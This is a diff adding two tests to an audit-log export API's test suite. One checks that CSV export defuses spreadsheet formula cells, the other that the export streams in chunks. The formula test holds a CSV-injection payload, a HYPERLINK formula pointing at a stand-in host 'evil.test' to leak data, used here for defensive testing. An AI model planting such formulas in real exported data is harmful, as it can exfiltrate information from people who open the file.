@@ -124,6 +124,52 @@ describe("GET /api/v1/audit/export", () => {
     expect(events.some((e) => e.type === "access.api" && e.data.route === "/api/v1/audit/export")).toBe(true);
   });
 
+  it("prefixes formula cells with an apostrophe and leaves plain numbers alone", async () => {
+    const c = await newTenant({ providers: false });
+    const name = '=HYPERLINK("http://evil.test/?leak","click")';
+    const subjects = [name, "+1+1", "@SUM(A1)", "-2+3", "\tx", "-5", "-1.25", "12"];
+    await seedAudit(
+      c.tenantId,
+      subjects.map((subject, i) => auditEvent(c.tenantId, i + 1, { subject, data: { kind: "budget", name } })),
+    );
+    // A key named like a formula, created through the API: its name travels in the data cell.
+    const created = await c.api("/keys", { method: "POST", json: { name } });
+    expect(created.status).toBe(201);
+    const rows = readCsv(await body(await c.api(`/audit/export?${YEAR_2001}&format=csv`)));
+    expect(rows.slice(1).map((r) => r[6])).toEqual([
+      `'${name}`,
+      "'+1+1",
+      "'@SUM(A1)",
+      "'-2+3",
+      "'\tx",
+      "-5",
+      "-1.25",
+      "12",
+    ]);
+    // A JSON cell starts with "{", which no spreadsheet runs: it reads back unchanged.
+    expect(rows.slice(1).map((r) => (JSON.parse(r[7] ?? "") as { name: string }).name)).toEqual(
+      subjects.map(() => name),
+    );
+    // NDJSON is data, not a spreadsheet: the subject as stored.
+    const lines = readNdjson(await body(await c.api(`/audit/export?${YEAR_2001}`))) as AuditEvent[];
+    expect(lines.map((e) => e.subject)).toEqual(subjects);
+  });
+
+  it("streams: the body arrives in several chunks, a page of rows at a time", async () => {
+    const res = await a.api(`/audit/export?${YEAR_2001}`);
+    const reader = res.body?.getReader();
+    let chunks = 0;
+    let bytes = 0;
+    for (;;) {
+      const next = await reader?.read();
+      if (!next || next.done) break;
+      chunks += 1;
+      bytes += next.value.byteLength;
+    }
+    expect(bytes).toBeGreaterThan(3000 * 150);
+    expect(chunks).toBeGreaterThanOrEqual(3);
+  });
+
   it("refuses bad parameters with 400 naming the parameter", async () => {
     const cases: [string, string, RegExp][] = [
       ["from=yesterday", "from", /from/],
